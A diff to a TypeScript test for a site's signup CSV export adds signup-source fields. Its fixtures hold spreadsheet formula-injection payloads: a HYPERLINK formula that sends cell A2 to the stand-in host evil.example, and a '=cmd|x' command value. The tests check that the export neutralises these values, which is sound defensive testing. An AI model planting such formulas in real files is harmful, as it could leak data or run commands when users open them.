@@ -14,6 +14,7 @@ import {
   type MailchimpStatus,
 } from '../../../scripts/lib/import-files';
 import { composeInvitation } from '../../support/stores';
+import type { SignupSource } from '../../../shared/sources';
 
 const NOW = Date.parse('2026-06-01T12:00:00.000Z');
 const CLI = { account: 'cli' };
@@ -166,20 +167,32 @@ describe("Mailchimp's audience export, one file a status", () => {
 });
 
 describe("this site's own export", () => {
-  /** A list with every state and the awkward texts a description may hold. */
+  /** A list with every state, sources, and the awkward texts a description may hold. */
   async function fillList() {
-    const add = async (email: string, description = '', options = {}, language?: 'ru') => {
-      await store.signups.add({ email, description, language }, options);
+    const add = async (
+      email: string,
+      description = '',
+      options = {},
+      language?: 'ru',
+      source?: SignupSource,
+    ) => {
+      await store.signups.add({ email, description, language, source }, options);
       time += 1_000;
     };
-    await add('Waiting@Example.org', '=HYPERLINK("https://evil.example/?"&A2)\r\n+1, "two"');
+    await add(
+      'Waiting@Example.org',
+      '=HYPERLINK("https://evil.example/?"&A2)\r\n+1, "two"',
+      {},
+      undefined,
+      { utm_source: '=cmd|x', utm_medium: 'social', utm_campaign: 'launch, "day one"' },
+    );
     await add('unconfirmed@example.org', "it's\tme;=1", { confirm: true }, 'ru');
     await add('invited@example.org', '-x');
     await store.subscriptions.invite('invited@example.org', {
       again: false,
       compose: composeInvitation,
     });
-    await add('activated@example.org', '@home');
+    await add('activated@example.org', '@home', {}, undefined, { referrer: 'news.example.com' });
     const key = await store.subscriptions.issueKey('activated@example.org');
     await store.subscriptions.activate('activated@example.org', key);
     await add('bounced@example.org');
@@ -197,6 +210,9 @@ describe("this site's own export", () => {
     await fillList();
     const file = await exported();
     expect(file).toContain("'=HYPERLINK");
+    // The source columns come back too: a campaign with a comma and quotes, a guarded formula.
+    expect(file).toContain('"\'=cmd|x","social","launch, ""day one""",""');
+    expect(file).toContain('"news.example.com"');
     await store.close();
     store = openSqliteStore({ dataDir: tempDataDir() }, () => time);
     const result = await report(file);
